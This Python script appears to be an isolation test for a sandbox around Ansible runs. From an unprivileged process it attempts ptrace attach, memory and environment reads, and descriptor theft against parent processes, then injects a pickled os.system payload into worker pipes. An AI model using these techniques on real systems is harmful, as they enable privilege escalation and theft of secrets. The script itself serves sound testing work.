"""Tries what a process of the run's own user, without privileges, can try. Writes down what came of each attempt.

usage: attack.py REPORT PWNED
"""
import ctypes
import errno
import json
import os
import pickle
import signal
import socket
import struct
import sys

report, pwned = sys.argv[1:]
libc = ctypes.CDLL(None, use_errno=True)
PIDFD_OPEN, PIDFD_GETFD = 434, 438


class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


def refused(answer):
    if answer < 0:
        code = ctypes.get_errno()
        raise OSError(code, os.strerror(code))
    return answer


def parent(pid):
    with open("/proc/%d/stat" % pid) as stat:
        return int(stat.read().rsplit(") ", 1)[1].split()[1])


def program(pid):
    with open("/proc/%d/cmdline" % pid, "rb") as line:
        return line.read().split(b"\0")


def descriptors(pid):
    names = os.listdir("/proc/%d/fd" % pid)
    for name in names:
        os.readlink("/proc/%d/fd/%s" % (pid, name))


def memory(pid):
    os.close(os.open("/proc/%d/mem" % pid, os.O_RDWR))


def environment(pid):
    with open("/proc/%d/environ" % pid, "rb") as file:
        file.read()


def read_memory(pid):
    room = ctypes.create_string_buffer(8)
    ours, theirs = Vector(ctypes.addressof(room), 8), Vector(ctypes.addressof(room), 8)
    try:
        refused(libc.process_vm_readv(pid, ctypes.byref(ours), 1, ctypes.byref(theirs), 1, 0))
    except OSError as error:
        if error.errno != errno.EFAULT:     # leave was given, only the address is none
            raise


def traced(request):
    def trace(pid):
        refused(libc.ptrace(request, pid, None, None))
        if request == 16:
            os.waitpid(pid, 0x40000000)     # __WALL: it stops first
        else:
            refused(libc.ptrace(0x4207, pid, None, None))       # PTRACE_INTERRUPT
            os.waitpid(pid, 0x40000000)
        refused(libc.ptrace(17, pid, None, None))
    return trace


def take_descriptor(pid):
    handle = refused(libc.syscall(PIDFD_OPEN, pid, 0))
    for number in range(64):
        try:
            os.close(refused(libc.syscall(PIDFD_GETFD, handle, number, 0)))
        except OSError as error:
            if error.errno != errno.EBADF:
                raise


ATTEMPTS = {
    "descriptors": descriptors, "memory": memory, "environment": environment, "read memory": read_memory,
    "attach": traced(16), "seize": traced(0x4206), "take descriptor": take_descriptor,
}


class Command:
    """Run by who unpickles it: Ansible's main process takes results from its workers so."""

    def __reduce__(self):
        return os.system, ("touch '%s'" % pwned,)


def poison(worker):
    """Writes a result into whatever pipe of the worker can be opened."""
    body = pickle.dumps(Command())
    for name in os.listdir("/proc/%d/fd" % worker):
        path = "/proc/%d/fd/%s" % (worker, name)
        if "pipe:" in os.readlink(path):
            pipe = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
            os.write(pipe, struct.pack("!i", len(body)) + body)


def attempt(what, *arguments):
    try:
        what(*arguments)
        return "done"
    except OSError as error:
        return errno.errorcode[error.errno]


own = [number for number in range(3, 256) if attempt(os.fstat, number) == "done"]
line = [os.getpid()]
while b"__guard" not in program(line[-1]):
    line.append(parent(line[-1]))
targets = {"worker": line[-3], "main": line[-2], "guard": line[-1], "host": parent(line[-1])}
control = os.fork()
if control == 0:
    signal.pause()
targets["control"] = control
found = {name: {target: attempt(try_, pid) for target, pid in targets.items()} for name, try_ in ATTEMPTS.items()}
os.kill(control, signal.SIGKILL)
found["poison"] = {"worker": attempt(poison, targets["worker"])}

# Whoever listens under a name, in the file system or not, can be connected to.
with open("/proc/net/unix") as sockets:
    found["sockets"] = [line.split()[7] for line in sockets.readlines()[1:] if len(line.split()) > 7]
found["open"] = own
found["told"] = sorted(name for name in os.environ if name.startswith("PLAYWARDEN"))
found["capabilities"] = [line.split()[1] for line in open("/proc/self/status") if line.startswith("CapEff")][0]
with open(report, "w") as file:
    json.dump(found, file)
